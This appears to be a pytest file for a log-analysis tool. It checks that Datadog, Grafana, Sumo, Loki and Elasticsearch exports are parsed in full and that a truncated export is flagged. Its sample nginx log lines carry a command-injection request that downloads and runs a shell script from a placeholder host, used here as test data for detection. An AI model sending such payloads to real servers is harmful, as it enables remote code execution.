"""Exports of log services: every line is read as the server wrote it, and what was cut off is said."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.app.running import Kanaria

LINES = [
    f'203.0.113.{n} - - [02/Jan/2026:03:04:0{n} +0000] "GET /shell?cd+/tmp;wget+http://198.51.100.9/x.sh;sh+x.sh HTTP/1.1" 404 150 "-" "-"'
    for n in range(1, 6)
]
SENT = [f"203.0.113.{n}" for n in range(1, 6)]


def table(header: str, delimiter: str = ",") -> str:
    """A CSV whose column in angle brackets is the line."""
    names = header.split(delimiter)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow([name.strip("<>") for name in names])
    writer.writerows([line if name.startswith("<") else "web1" for name in names] for line in LINES)
    return out.getvalue()


def loki(*more: dict[str, str]) -> dict[str, Any]:
    values = [[str(1767323045000000000 + at), line, *more] for at, line in enumerate(LINES)]
    return {"streams": [{"stream": {"job": "nginx"}, "values": values}]}


HITS = {"hits": {"hits": [{"_source": {"message": line}} for line in LINES]}}
WHOLE = {
    "datadog.csv": table("Date,Host,Service,<MESSAGE>"),
    "grafana.csv": table("time,<LINE>,tsNs"),
    "sumo.csv": table("_messagetime,_sourcehost,<_Raw>"),
    "words.csv": table("Timestamp,<Log Message>,Host"),
    "semicolons.csv": table("time;<message>", ";"),
    "tabs.csv": table("time\t<Message>", "\t"),
    "bars.csv": table("time|<Message>", "|"),
    "only-source.json": json.dumps(HITS["hits"]["hits"]),
    "loki.json": json.dumps(loki()),
    "loki-metadata.json": json.dumps(loki({"trace": "1"})),
}


@pytest.mark.parametrize("name", WHOLE)
def test_every_line_of_an_export_is_read(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text(WHOLE[name])
    done = kanaria("analyze", "--format", "json", name)
    (read,) = done.document["inputs"]
    assert (read["rows"], read["unread"], done.status) == (5, 0, 0)
    assert sorted(done.incident["entities"]["remotes"]) == SENT


@pytest.mark.parametrize("indent", [None, 1])
def test_what_an_export_lost_at_its_end_is_said(kanaria: Kanaria, tmp_path: Path, indent: int | None) -> None:
    text = json.dumps(HITS, indent=indent)
    (tmp_path / "cut.json").write_text(text[: text.index(SENT[3]) + 20])
    done = kanaria("analyze", "--format", "json", "cut.json")
    assert done.document["coverage"]["unread"] > 0
    assert set(SENT[:3]) <= set(done.incident["entities"]["remotes"])
    assert done.status != 0
